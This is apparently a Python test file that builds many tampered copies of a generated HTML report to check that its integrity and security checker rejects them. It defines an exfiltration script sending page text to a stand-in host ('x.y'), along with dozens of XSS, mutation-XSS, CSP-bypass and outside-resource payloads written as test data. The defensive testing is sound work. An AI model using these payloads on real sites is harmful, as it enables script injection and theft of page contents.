"""Ways to spoil a page of ours, each as one would who knows how pages are made, and the digests of the page too."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

from workbench import __version__
from workbench.report import check
from workbench.storage.json_text import digest
from workbench.views.base import page as pages


def problems_of(page: str, folder: Path) -> list[str]:
    path = folder / "page.html"
    path.write_text(page, encoding="utf-8", newline="\n")
    return check(path)


def allowed(page: str, *scripts: str, styles: tuple[str, ...] = ()) -> str:
    """The page with a policy that names these too."""
    for kind, texts in (("script-src", scripts), ("style-src", styles)):
        for text in texts:
            page = page.replace(f"{kind} ", f"{kind} '{digest(text)}' ", 1)
    return page


def sealed(page: str) -> str:
    """The page with the digest of itself made to fit, as one who knows how it is made would do."""
    said = re.search(r'name="digest" content="([^"]*)"', page)
    assert said
    bare = page.replace(said[1], "", 1)
    return page.replace(said[1], pages.seal(bare), 1)


EVIL = "location.href = 'https://x.y/?' + encodeURIComponent(document.body.innerText);"
SCRIPT = f"<script>{EVIL}</script>"
HIDDEN = f"</noscript>{SCRIPT}"
TITLED = f"</title>{SCRIPT}"


def inserted(what: str, before: str = "</main>", **named: Any) -> Callable[[str], str]:
    return lambda page: allowed(page.replace(before, what + before, 1), *named.get("scripts", ()),
                                styles=named.get("styles", ()))  # fmt: skip


def replaced(old: str, new: str) -> Callable[[str], str]:
    return lambda page: page.replace(old, new, 1)


def policy_moved(page: str) -> str:
    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', page)
    assert policy
    return page.replace(policy[0], "", 1).replace("<body>\n", f"<body>\n{policy[0]}", 1)


REFRESH = 'http-equiv="refresh" content="0;url=https://x.y/"'
CASES: dict[str, Callable[[str], str]] = {
    # What a page of ours never holds.
    "script": replaced("const modules", "const modules2"),
    "style": replaced("--paper: #ffffff", "--paper: #fffffe"),
    "added script": inserted(SCRIPT),
    "added script that the policy names": inserted(SCRIPT, scripts=(EVIL,)),
    "outside script": inserted("<script src='https://x.y/z.js'></script>"),
    "module": inserted(f"<script type=module>{EVIL}</script>", scripts=(EVIL,)),
    "import map": inserted('<script type=importmap>{"imports":{"a":"https://x.y/"}}</script>'),
    "speculation rules": inserted(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://x.y/"]}]}</script>'
    ),
    "outside image": inserted("<img src='//x.y/z.png'>"),
    "image by srcset": inserted("<img srcset='https://x.y/z.png 1x'>"),
    "picture of a video": inserted("<video poster='https://x.y/z.png'></video>"),
    "sound": inserted("<audio autoplay src='https://x.y/z.wav'></audio>"),
    "track": inserted("<video><track src='https://x.y/z.vtt' default></video>"),
    "outside style": inserted("<link rel=stylesheet href=style.css>", "</head>"),
    "preload": inserted("<link rel=preload as=image href='https://x.y/z'>", "</head>"),
    "prefetch": inserted("<link rel=prefetch href='https://x.y/z'>", "</head>"),
    "name lookup": inserted("<link rel=dns-prefetch href='//x.y'>", "</head>"),
    "connection": inserted("<link rel=preconnect href='https://x.y'>", "</head>"),
    "icon": inserted("<link rel=icon href='https://x.y/z.ico'>", "</head>"),
    "manifest": inserted("<link rel=manifest href='https://x.y/z'>", "</head>"),
    "styles that import": inserted(
        "<style>@import 'https://x.y/z.css';</style>", styles=("@import 'https://x.y/z.css';",)
    ),
    "styles with a url of escapes": inserted("<style>p{background:u\\72l(//x.y)}</style>"),
    "font": inserted("<style>@font-face{font-family:a;src:url(//x.y/z)}</style>"),
    "ping": inserted("<a href='#a' ping='https://x.y/'>x</a>"),
    "handler": replaced("<main>", "<main onclick='x()'>"),
    "handler with a slash": inserted("<svg/onload=x()>"),
    "style attribute": replaced("<main>", "<main style='color:red'>"),
    "link that runs": inserted("<a href='javascript:x()'>x</a>"),
    "link that runs, with a tab in it": inserted("<a href='java\tscript:x()'>x</a>"),
    "link to data": inserted("<a href='data:text/html,<script>1</script>'>x</a>"),
    "link": inserted("<a href='https://x.y/'>Figure 1</a>"),
    "frame": inserted("<iframe></iframe>"),
    "frame of its own text": inserted("<iframe srcdoc='<script>1</script>'></iframe>"),
    "object": inserted("<object data='https://x.y/'></object>"),
    "embedded": inserted("<embed src='https://x.y/'>"),
    "portal": inserted("<portal src='https://x.y/'></portal>"),
    "form": inserted("<form action='https://x.y/'><button>Theme</button></form>"),
    "button with an address of its own": inserted("<button form=f formaction='https://x.y/'>Theme</button>"),
    "picture as a button": inserted("<input type=image src='https://x.y/'>"),
    # Where browsers and parsers disagree.
    "refresh": inserted(f"<meta {REFRESH}>", "<title>"),
    "refresh with a name": inserted(f'<meta name="x" {REFRESH}>', "<title>"),
    "refresh in an attribute given twice": inserted(f'<meta {REFRESH} http-equiv="x">', "<title>"),
    "policy in an attribute given twice": replaced(
        '<meta http-equiv="Content', '<meta http-equiv="x" http-equiv="Content'
    ),
    "another base": inserted("<base href='https://x.y/'>", "<title>"),
    "policy in the body": policy_moved,
    "policy after a script": lambda p: allowed(p.replace("<head>", f"<head>{SCRIPT}", 1), EVIL),
    "policy in a template": lambda p: p.replace('<meta http-equiv="Content', '<template><meta http-equiv="Content', 1),
    "policy in a comment": lambda p: p.replace('<meta http-equiv="Content', '<!-- <meta http-equiv="Content', 1),
    "policy in noscript": inserted("<noscript>", '<meta http-equiv="Content'),
    "no policy": replaced("Content-Security-Policy", "X"),
    "policy that only reports": replaced("Content-Security-Policy", "Content-Security-Policy-Report-Only"),
    "loose policy": replaced("default-src 'none';", "default-src 'none'; font-src https:;"),
    "connecting": replaced("default-src 'none';", "default-src 'none'; connect-src data:;"),
    "everything": replaced("default-src 'none';", "default-src *;"),
    "directive given twice": replaced("default-src 'none';", "default-src *; default-src 'none';"),
    "unsafe policy": replaced("style-src '", "style-src 'unsafe-inline' '"),
    "no forms": replaced("; form-action 'none'", ""),
    "comment that ends at once": inserted(f"<!-->{SCRIPT}-->", scripts=(EVIL,)),
    "comment that ends after a dash": inserted(f"<!--->{SCRIPT}-->", scripts=(EVIL,)),
    "comment that ends with a bang": inserted(f"<!-- --!>{SCRIPT}-->", scripts=(EVIL,)),
    "comment in a comment": inserted(f"<!--<!--{SCRIPT}-->", scripts=(EVIL,)),
    "comment that does not end": inserted("<!--"),
    "declaration": inserted(f"<!x >{SCRIPT}>", scripts=(EVIL,)),
    "instruction": inserted(f"<?x >{SCRIPT}?>", scripts=(EVIL,)),
    "end tag that is a comment": inserted(f"</ >{SCRIPT}", scripts=(EVIL,)),
    "characters as they are": inserted(f"<![CDATA[>{SCRIPT}]]>", scripts=(EVIL,)),
    "characters as they are, in a drawing": inserted(f"<svg><![CDATA[</svg>{SCRIPT}]]></svg>", scripts=(EVIL,)),
    "noscript hides a style": inserted(
        f"<noscript><style>{HIDDEN}</style></noscript>", scripts=(EVIL,), styles=(HIDDEN,)
    ),
    "noscript hides an attribute": inserted(f'<noscript><p title="{HIDDEN}"></noscript>', scripts=(EVIL,)),
    "title hides a style": inserted(f"<title><style>{TITLED}</style></title>", scripts=(EVIL,), styles=(TITLED,)),
    "textarea": inserted(f'<textarea><p title="</textarea>{SCRIPT}"></textarea>', scripts=(EVIL,)),
    "xmp": inserted(f'<xmp><p title="</xmp>{SCRIPT}"></xmp>', scripts=(EVIL,)),
    "plain text": inserted("<plaintext>"),
    "template": inserted(f"<template>{SCRIPT}</template>", scripts=(EVIL,)),
    "template with a shadow": inserted(
        f"<div><template shadowrootmode=open>{SCRIPT}</template></div>", scripts=(EVIL,)
    ),
    "select": inserted(f"<select><style></select>{SCRIPT}</style>", scripts=(EVIL,)),
    "table": inserted(f"<table><style></table>{SCRIPT}</style>", scripts=(EVIL,)),
    "formula": inserted(
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{SCRIPT}'>", scripts=(EVIL,)
    ),
    "formula with HTML": inserted(
        f"<math><annotation-xml encoding='text/html'><style><img title='</style>{SCRIPT}'></annotation-xml></math>",
        scripts=(EVIL,),
    ),
    "drawing": inserted(f"<svg><style><a title='</style>{SCRIPT}'></svg>", scripts=(EVIL,)),
    "drawing with HTML": inserted(f"<svg><foreignObject>{SCRIPT}</foreignObject></svg>", scripts=(EVIL,)),
    "drawing that uses another": inserted("<svg><use href='https://x.y/z.svg#a'/></svg>"),
    "drawing that changes a link": inserted(
        "<svg><a><animate attributeName=href values='javascript:x()'/><text>x</text></a></svg>"
    ),
    "picture in a drawing": inserted("<svg><image xlink:href='https://x.y/z.png'/></svg>"),
    "script of a drawing": inserted("<svg><script href='https://x.y/z.js'/></svg>"),
    "blank in an end tag": inserted(f"<script>{EVIL}</script \t\n x>", scripts=(EVIL,)),
    "capitals": inserted(f"<SCRIPT>{EVIL}</sCrIpT>", scripts=(EVIL,)),
    "data of a type with a parameter": inserted(f'<script type="application/json;x">{EVIL}</script>', scripts=(EVIL,)),
    "data that are a script": replaced('<script type="application/json"', "<script"),
    "data block that closes early": inserted(f"<!--<script>-->{SCRIPT}", "<script type", scripts=(EVIL,)),
    # Before, after, and in other characters.
    "something before": lambda p: f"<p>{p}",
    "blank before": lambda p: f"\n{p}",
    "byte order mark": lambda p: f"\ufeff{p}",
    "something after": lambda p: p + SCRIPT,
    "blank after": lambda p: p + "\n",
    "two pages": lambda p: p + p,
    "zero byte": replaced("<main", "<\0main"),
    "zero byte in a tag": inserted(f"<scr\0ipt>{EVIL}</script>"),
    "form feed": replaced('<meta charset="utf-8">', '<meta\fcharset="utf-8">'),
    "carriage returns": lambda p: p.replace("\n", "\r\n"),
    "another character set": replaced('charset="utf-8"', 'charset="utf-7"'),
    "character set of Japan": replaced('charset="utf-8"', 'charset="iso-2022-jp"'),
    "quirks": replaced("<!doctype html>", ""),
    "XHTML": replaced('<html lang="en">', '<html lang="en" xmlns="http://www.w3.org/1999/xhtml" manifest="x">'),
    # What the package would have written otherwise.
    "words": replaced("<h2", "<h2 hidden"),
    "a word": replaced("Everything on this page is in this file", "Everything on this page is true"),
    "a number of the table": lambda p: re.sub(r"<td>(\d)", lambda m: f"<td>{9 - int(m[1])}", p, count=1),
    "no digest": replaced('name="digest"', 'name="x"'),
    "cut short": lambda p: p[: len(p) // 2],
    "the last letter": lambda p: p[:-1],
    "another page": lambda p: "<!doctype html><html><p>Hello</html>",
    "nothing": lambda p: "",
    "another version": replaced(f"attention-workbench {__version__}", "attention-workbench 0.0.9"),
    "another version with a script": lambda p: inserted(SCRIPT, scripts=(EVIL,))(
        p.replace(f"attention-workbench {__version__}", "attention-workbench 0.0.9")
    ),
    "another package": replaced("attention-workbench", "x"),
    "a block gone": replaced('id="view-0"', 'id="view-7"'),
    "a block twice": lambda p: re.sub(
        r'(<script type="application/json" id="view-0".*?</script>\n)', r"\1\1", p, count=1
    ),
    "broken data": replaced('{"version"', '{version"'),
}
